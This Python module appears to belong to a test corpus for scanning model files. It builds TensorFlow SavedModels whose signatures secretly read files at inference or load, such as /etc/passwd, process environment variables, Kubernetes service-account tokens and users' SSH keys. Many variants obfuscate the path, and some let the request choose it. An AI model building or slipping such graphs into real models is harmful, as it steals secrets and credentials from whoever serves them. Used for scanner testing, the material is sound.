"""SavedModels that read files at inference, one operation each (reference 2, file-read)."""

from __future__ import annotations

from .build import FLOATS, STRING, by_hand, const, dense, export, export_v1, node, raw, tf, v1
from .registry import Place, attack, fires

READS = fires("call", "reads")


def _reader(
    id, op, value, make, about, shows=READS, category="file-read", also=(), trigger="inference"
):
    """An attack whose signature returns what `make(canary)` reads."""

    def build(place: Place):
        dense(place.path, lambda x, y: {"leak": make(place.canary)})

    build.__doc__ = about
    attack(id, "savedmodel", category, op, value, fires=shows, also=also, trigger=trigger)(build)


def _first(dataset_variant, types, shapes):
    """The first element of a dataset variant."""
    iterator = raw.AnonymousIteratorV2(output_types=types, output_shapes=shapes)[0]
    raw.MakeIterator(dataset=dataset_variant, iterator=iterator)
    return raw.IteratorGetNext(iterator=iterator, output_types=types, output_shapes=shapes)[0]


_reader(
    "sm-read-file-constant",
    "ReadFile",
    "secret.txt",
    lambda c: raw.ReadFile(filename=f"{c}/secret.txt"),
    "ReadFile of a constant path beside the prediction.",
)
_reader(
    "sm-read-file-passwd",
    "ReadFile",
    "/etc/passwd",
    lambda c: tf.io.read_file("/etc/passwd"),
    "ReadFile of /etc/passwd.",
    fires("call", "returns", "root:"),
)
_reader(
    "sm-read-file-environ",
    "ReadFile",
    "/proc/self/environ",
    lambda c: tf.io.read_file("/proc/self/environ"),
    "ReadFile of the environment of the process, where credentials are.",
    fires("call", "returns", "PATH="),
)
_reader(
    "sm-read-file-token",
    "ReadFile",
    "serviceaccount/token",
    lambda c: tf.io.read_file("/var/run/secrets/kubernetes.io/serviceaccount/token"),
    "ReadFile of the token of a Kubernetes service account.",
    None,
)
_reader(
    "sm-read-file-joined",
    "ReadFile",
    "secret.txt",
    lambda c: tf.io.read_file(tf.strings.join([c, "secret" + ".txt"], separator="/")),
    "The path is joined from two constants.",
)
_reader(
    "sm-read-file-reversed",
    "ReadFile",
    None,
    lambda c: tf.io.read_file(
        tf.strings.reduce_join(tf.reverse(tf.constant(list(f"{c}/secret.txt"[::-1])), [0]))
    ),
    "The path is a constant of single letters, backwards, that is turned and joined.",
)
_reader(
    "sm-read-file-base64",
    "ReadFile",
    None,
    lambda c: tf.io.read_file(tf.io.decode_base64(tf.io.encode_base64(f"{c}/secret.txt"))),
    "The path goes through base64.",
)
_reader(
    "sm-read-file-codepoints",
    "ReadFile",
    None,
    lambda c: tf.io.read_file(
        tf.strings.unicode_encode(tf.constant([ord(x) + 1 for x in f"{c}/secret.txt"]) - 1, "UTF-8")
    ),
    "The path is a vector of code points, each shifted by one.",
)
_reader(
    "sm-read-file-relative",
    "ReadFile",
    "../../etc/hostname",
    lambda c: tf.io.read_file("../../etc/hostname"),
    "ReadFile of a path that climbs out of the working folder.",
    None,
)
_reader(
    "sm-read-file-substr",
    "ReadFile",
    None,
    lambda c: tf.io.read_file(tf.strings.substr(f"zzz{c}/secret.txtzzz", 3, len(c) + 11)),
    "The path is a slice of a longer constant.",
)
_reader(
    "sm-read-file-regex",
    "ReadFile",
    None,
    lambda c: tf.io.read_file(
        tf.strings.regex_replace(f"{c}/sXeXcXrXeXtX.txt".replace("tX.", "t."), "X", "")
    ),
    "The path loses its padding by a regular expression.",
)
_reader(
    "sm-text-line-dataset",
    ["TextLineDataset"],
    "secret.txt",
    lambda c: _first(
        raw.TextLineDataset(filenames=[f"{c}/secret.txt"], compression_type="", buffer_size=0),
        [tf.string],
        [[]],
    ),
    "The first line of a file by a dataset.",
)
_reader(
    "sm-tfrecord-dataset",
    ["TFRecordDataset"],
    "secret.tfrecord",
    lambda c: _first(
        raw.TFRecordDataset(filenames=[f"{c}/secret.tfrecord"], compression_type="", buffer_size=0),
        [tf.string],
        [[]],
    ),
    "A record of a foreign TFRecord file.",
)
_reader(
    "sm-tfrecord-dataset-v2",
    ["TFRecordDatasetV2"],
    "secret.tfrecord",
    lambda c: _first(
        raw.TFRecordDatasetV2(
            filenames=[f"{c}/secret.tfrecord"],
            compression_type="",
            buffer_size=0,
            byte_offsets=tf.constant([0], tf.int64),
        ),
        [tf.string],
        [[]],
    ),
    "The newer form of the same, with byte offsets.",
    None,
)
_reader(
    "sm-fixed-length-dataset",
    ["FixedLengthRecordDataset"],
    "secret.txt",
    lambda c: _first(
        raw.FixedLengthRecordDatasetV2(
            filenames=[f"{c}/secret.txt"],
            header_bytes=0,
            record_bytes=21,
            footer_bytes=0,
            buffer_size=0,
            compression_type="",
        ),
        [tf.string],
        [[]],
    ),
    "Bytes of any file, cut into records.",
)
_reader(
    "sm-csv-dataset",
    ["CSVDataset"],
    "secret.txt",
    lambda c: _first(
        raw.CSVDatasetV2(
            filenames=[f"{c}/secret.txt"],
            compression_type="",
            buffer_size=1000,
            header=False,
            field_delim=",",
            use_quote_delim=False,
            na_value="",
            select_cols=tf.constant([], tf.int64),
            record_defaults=[[""]],
            exclude_cols=tf.constant([], tf.int64),
            output_shapes=[[]],
        ),
        [tf.string],
        [[]],
    ),
    "A text file read as CSV with one column.",
)
_reader(
    "sm-sql-dataset",
    ["SqlDataset"],
    "secret.sqlite",
    lambda c: _first(
        raw.SqlDataset(
            driver_name="sqlite",
            data_source_name=f"{c}/secret.sqlite",
            query="SELECT text FROM secrets",
            output_types=[tf.string],
            output_shapes=[[]],
        ),
        [tf.string],
        [[]],
    ),
    "A query of a SQLite database that lies on the machine.",
)
_reader(
    "sm-experimental-sql-dataset",
    ["SqlDataset"],
    "secret.sqlite",
    lambda c: _first(
        raw.ExperimentalSqlDataset(
            driver_name="sqlite",
            data_source_name=f"{c}/secret.sqlite",
            query="SELECT text FROM secrets",
            output_types=[tf.string],
            output_shapes=[[]],
        ),
        [tf.string],
        [[]],
    ),
    "The experimental name of the same operation.",
)
_reader(
    "sm-lmdb-dataset",
    ["LMDBDataset"],
    "secret.mdb",
    lambda c: _first(
        raw.LMDBDataset(
            filenames=[f"{c}/secret.mdb"],
            output_types=[tf.string, tf.string],
            output_shapes=[[], []],
        ),
        [tf.string, tf.string],
        [[], []],
    ),
    "Records of an LMDB database.",
    None,
)
_reader(
    "sm-load-dataset",
    ["LoadDataset"],
    "secret-dataset",
    lambda c: tf.data.Dataset.load(f"{c}/secret-dataset", tf.TensorSpec([], tf.string)).reduce(
        tf.constant(""), lambda a, b: tf.strings.join([a, b])
    ),
    "A dataset that somebody saved on the machine.",
    None,
)
_reader(
    "sm-immutable-const",
    "ImmutableConst",
    "secret.txt",
    lambda c: raw.Bitcast(
        input=tf.concat(
            [raw.ImmutableConst(dtype=tf.uint8, shape=[21], memory_region_name=f"{c}/secret.txt")],
            0,
        ),
        type=tf.uint8,
    ),
    "A file mapped into memory as a constant; the path is an attribute.",
)
_reader(
    "sm-matching-files",
    "MatchingFiles",
    "sec*.txt",
    lambda c: raw.MatchingFiles(pattern=[f"{c}/sec*.txt"]),
    "Lists files by a pattern (modelscan#341).",
    fires("call", "returns", "secret.txt"),
)
_reader(
    "sm-matching-files-dataset",
    "MatchingFilesDataset",
    "/etc/",
    lambda c: _first(raw.MatchingFilesDataset(patterns=["/etc/host*"]), [tf.string], [[]]),
    "Lists files of /etc by a dataset.",
    fires("call", "returns", "/etc/host"),
)
_reader(
    "sm-list-files",
    "MatchingFiles",
    "/home",
    lambda c: tf.data.Dataset.list_files("/home/*/.ssh/*", shuffle=False).reduce(
        tf.constant(""), lambda a, b: tf.strings.join([a, b])
    ),
    "tf.data.Dataset.list_files over everybody's keys.",
    None,
)
_reader(
    "sm-restore-v2-foreign",
    "RestoreV2",
    "secret-checkpoint",
    lambda c: raw.RestoreV2(
        prefix=f"{c}/secret-checkpoint",
        tensor_names=["text"],
        shape_and_slices=[""],
        dtypes=[tf.string],
    )[0],
    "RestoreV2 at inference, of somebody else's checkpoint.",
)
_reader(
    "sm-restore-v1-foreign",
    ["Restore"],
    "secret-checkpoint",
    lambda c: raw.Restore(
        file_pattern=f"{c}/secret-checkpoint-v1", tensor_name="text", dt=tf.float32
    ),
    "The TF1 form of the same.",
    None,
)
_reader(
    "sm-restore-slice",
    ["RestoreSlice"],
    "secret-checkpoint",
    lambda c: raw.RestoreSlice(
        file_pattern=f"{c}/secret-checkpoint-v1",
        tensor_name="text",
        shape_and_slice="",
        dt=tf.float32,
    ),
    "A slice of a foreign TF1 checkpoint.",
    None,
)
_reader(
    "sm-load-and-remap",
    "LoadAndRemapMatrix",
    "secret-checkpoint",
    lambda c: raw.LoadAndRemapMatrix(
        ckpt_path=f"{c}/secret-checkpoint",
        old_tensor_name="matrix",
        row_remapping=tf.constant([0, 1], tf.int64),
        col_remapping=tf.constant([], tf.int64),
        initializing_values=[],
        num_rows=2,
        num_cols=2,
    ),
    "A matrix of a foreign checkpoint.",
    fires("call", "returns", "42.0"),
)
_reader(
    "sm-vocab-remapping",
    "GenerateVocabRemapping",
    "/etc/",
    lambda c: raw.GenerateVocabRemapping(
        new_vocab_file="/etc/hostname",
        old_vocab_file="/etc/hosts",
        new_vocab_offset=0,
        num_new_vocab=1,
    )[0],
    "Compares lines of two files.",
    None,
)
_reader(
    "sm-snapshot-reader",
    ["SnapshotDatasetReader", "SnapshotChunk", "ListSnapshot"],
    "secret-snapshot",
    lambda c: _first(
        raw.SnapshotDatasetReader(
            shard_dir=f"{c}/secret-snapshot",
            start_index=0,
            output_types=[tf.string],
            output_shapes=[[]],
            compression="",
            version=2,
        ),
        [tf.string],
        [[]],
    ),
    "Reads the shards of a tf.data snapshot.",
    None,
)
_reader(
    "sm-list-snapshot-chunks",
    "ListSnapshotChunksDataset",
    "secret-snapshot",
    lambda c: _first(
        raw.ListSnapshotChunksDataset(
            snapshot_path=f"{c}/secret-snapshot", output_types=[tf.string], output_shapes=[[]]
        ),
        [tf.string],
        [[]],
    ),
    "Lists the chunks of a tf.data snapshot.",
    None,
)
_reader(
    "sm-unigram-sampler",
    "FixedUnigramCandidateSampler",
    "secret.txt",
    lambda c: raw.FixedUnigramCandidateSampler(
        true_classes=tf.constant([[1]], tf.int64),
        num_true=1,
        num_sampled=1,
        unique=False,
        range_max=2,
        vocab_file=f"{c}/secret.txt",
    )[0],
    "A sampler with a vocabulary file in an attribute.",
    None,
)
_reader(
    "sm-record-input",
    "RecordInput",
    "secret.tfrecord",
    lambda c: raw.RecordInput(
        file_pattern=f"{c}/secret.tfrecord", batch_size=1, file_buffer_size=1, file_parallelism=1
    ),
    "RecordInput: a file pattern in an attribute.",
)
_reader(
    "sm-decode-proto",
    "DecodeProtoV2",
    "descriptor.pb",
    lambda c: (
        raw.DecodeProtoV2(
            bytes=[b""],
            message_type="a.B",
            field_names=[],
            output_types=[],
            descriptor_source=f"{c}/descriptor.pb",
        ).sizes
    ),
    "A file of descriptors in an attribute of DecodeProtoV2.",
    None,
)
_reader(
    "sm-encode-proto",
    "EncodeProto",
    "descriptor.pb",
    lambda c: raw.EncodeProto(
        sizes=[[1]],
        values=[[[1]]],
        field_names=["a"],
        message_type="a.B",
        descriptor_source=f"{c}/descriptor.pb",
    ),
    "The same in EncodeProto.",
    None,
)
_reader(
    "sm-audio-file",
    "ReadFile",
    "secret.wav",
    lambda c: raw.DecodeWav(contents=tf.io.read_file(f"{c}/secret.wav"))[0],
    "A recording of the machine; the decoder behind it looks like preprocessing.",
    None,
)


@attack(
    "sm-read-file-request",
    "savedmodel",
    "file-read",
    "ReadFile",
    ["request", "signature", "input"],
    fires=fires("call", "reads", feed={"s": "{canary}/secret.txt"}),
)
def _(place: Place):
    """Whoever sends the request chooses the file."""
    export(place.path, lambda s: {"leak": tf.io.read_file(s)}, STRING)


@attack(
    "sm-read-file-request-prefix",
    "savedmodel",
    "file-read",
    "ReadFile",
    ["request", "signature", "input"],
    fires=fires("call", "reads", feed={"s": "../secret.txt"}),
)
def _(place: Place):
    """A constant folder does not help where the request may climb out of it."""
    export(
        place.path,
        lambda s: {"leak": tf.io.read_file(tf.strings.join([place.canary, "/out/", s]))},
        STRING,
    )


@attack(
    "sm-text-lines-request",
    "savedmodel",
    "file-read",
    "TextLineDataset",
    ["request", "signature", "input"],
    fires=fires("call", "reads", feed={"s": "{canary}/secret.txt"}),
)
def _(place: Place):
    """The dataset's file name comes from the request."""
    export(
        place.path,
        lambda s: {
            "leak": tf.data.TextLineDataset(s).reduce(
                tf.constant(""), lambda a, b: tf.strings.join([a, b, "\n"])
            )
        },
        STRING,
    )


@attack("sm-read-file-variable-path", "savedmodel", "file-read", "ReadFile", fires=READS)
def _(place: Place):
    """The path is a string variable: its value is in the checkpoint, not in the graph."""
    path = tf.Variable(f"{place.canary}/secret.txt")
    export(place.path, lambda x: {"y": x, "leak": tf.io.read_file(path)}, FLOATS, extra=path)


@attack("sm-read-file-table-path", "savedmodel", "file-read", "ReadFile", fires=READS)
def _(place: Place):
    """The path is a value of a lookup table."""
    table = tf.lookup.StaticHashTable(
        tf.lookup.KeyValueTensorInitializer(
            tf.constant([1], tf.int64), tf.constant([f"{place.canary}/secret.txt"])
        ),
        "",
    )
    export(
        place.path,
        lambda x: {"y": x, "leak": tf.io.read_file(table.lookup(tf.constant(1, tf.int64)))},
        FLOATS,
        extra=table,
    )


def _whole_file(place: Place, reader, files):
    def build():
        x = v1.placeholder(tf.float32, [None, 4], "x")
        queue = raw.FIFOQueueV2(component_types=[tf.string])
        filled = raw.QueueEnqueueManyV2(handle=queue, components=[tf.constant(files)])
        with tf.control_dependencies([filled]):
            read = raw.ReaderReadV2(reader_handle=reader(), queue_handle=queue)
        return {"x": x}, {"y": x * 2.0, "leak": read.value}

    export_v1(place.path, build)


@attack(
    "sm-whole-file-reader",
    "savedmodel",
    "file-read",
    ["WholeFileReader", "ReaderRead"],
    "secret.txt",
    fires=READS,
)
def _(place: Place):
    """A TF1 reader with its queue of file names (reference 1.3)."""
    _whole_file(place, lambda: raw.WholeFileReaderV2(), [f"{place.canary}/secret.txt"])


@attack(
    "sm-text-line-reader",
    "savedmodel",
    "file-read",
    ["TextLineReader", "ReaderRead"],
    "secret.txt",
    fires=READS,
)
def _(place: Place):
    """The same by lines."""
    _whole_file(place, lambda: raw.TextLineReaderV2(), [f"{place.canary}/secret.txt"])


@attack(
    "sm-fixed-length-reader",
    "savedmodel",
    "file-read",
    ["FixedLengthRecordReader", "ReaderRead"],
    "secret.txt",
    fires=READS,
)
def _(place: Place):
    """The same by bytes."""
    _whole_file(
        place,
        lambda: raw.FixedLengthRecordReaderV2(record_bytes=21),
        [f"{place.canary}/secret.txt"],
    )


@attack(
    "sm-tfrecord-reader",
    "savedmodel",
    "file-read",
    ["TFRecordReader", "ReaderRead"],
    "secret.tfrecord",
    fires=READS,
)
def _(place: Place):
    """The same of TFRecords."""
    _whole_file(place, lambda: raw.TFRecordReaderV2(), [f"{place.canary}/secret.tfrecord"])


@attack(
    "sm-table-from-file",
    "savedmodel",
    "file-read",
    ["InitializeTableFromTextFile"],
    "secret.txt",
    trigger="load",
    fires=fires("load-cpp", "opens", "secret.txt"),
)
def _(place: Place):
    """A TF1 lookup table whose vocabulary is a file of the machine, filled by the init operation."""

    def build():
        x = v1.placeholder(tf.int64, [], "x")
        table = raw.HashTableV2(key_dtype=tf.int64, value_dtype=tf.string, shared_name="vocabulary")
        init = raw.InitializeTableFromTextFileV2(
            table_handle=table, filename=f"{place.canary}/secret.txt", key_index=-1, value_index=-2
        )
        found = raw.LookupTableFindV2(table_handle=table, keys=x, default_value="")
        return {"x": x}, {"leak": found}, {"main_op": init}

    export_v1(place.path, build)


@attack(
    "sm-table-from-file-tf2",
    "savedmodel",
    "file-read",
    ["InitializeTableFromTextFile"],
    "secret.txt",
    trigger="load",
    fires=fires("load-python", "opens", "secret.txt"),
)
def _(place: Place):
    """The same in a TF2 model. The asset is turned into a constant path outside the model."""
    _table_outside(place, f"{place.canary}/secret.txt")


def _table_outside(place: Place, path: str):
    from .build import patch, scratch

    vocabulary = scratch(place.path)
    vocabulary.mkdir(parents=True)
    (vocabulary / "vocab.txt").write_text("a\nb\n")
    table = tf.lookup.StaticHashTable(
        tf.lookup.TextFileInitializer(
            str(vocabulary / "vocab.txt"),
            tf.string,
            tf.lookup.TextFileIndex.WHOLE_LINE,
            tf.int64,
            tf.lookup.TextFileIndex.LINE_NUMBER,
        ),
        -1,
    )
    export(place.path, lambda s: {"y": table.lookup(s)}, STRING, extra=table)

    def edit(model):
        for function in model.meta_graphs[0].graph_def.library.function:
            for at, inner in enumerate(function.node_def):
                if inner.op == "InitializeTableFromTextFileV2":
                    inner.input[1] = "outside:output:0"
                    function.node_def.append(const("outside", path))
                    function.node_def[at].CopyFrom(inner)

    patch(place.path, edit)


@attack("sm-reader-by-hand", "savedmodel", "file-read", "ReadFile", "secret.txt", fires=READS)
def _(place: Place):
    """A graph written by hand: the node has a long path as its name and passes through identities."""
    name = "model/block/" * 12 + "normalize"
    by_hand(
        place.path,
        [
            const("p", f"{place.canary}/secret.txt"),
            node("p2", "Identity", ["p"], T=tf.string),
            node(name, "ReadFile", ["p2"]),
            node("y", "Identity", [name], T=tf.string),
        ],
        ("y", tf.string, []),
    )


@attack("sm-skipgram", "savedmodel", "file-read", "Skipgram", "secret.txt")
def _(place: Place):
    """Skipgram: a file name in an attribute of an operation that Python no longer offers."""
    skipgram = node("words", "Skipgram", filename=f"{place.canary}/secret.txt", batch_size=1)
    by_hand(
        place.path,
        [skipgram, node("y", "Identity", ["words"], T=tf.string)],
        ("y", tf.string, None),
    )
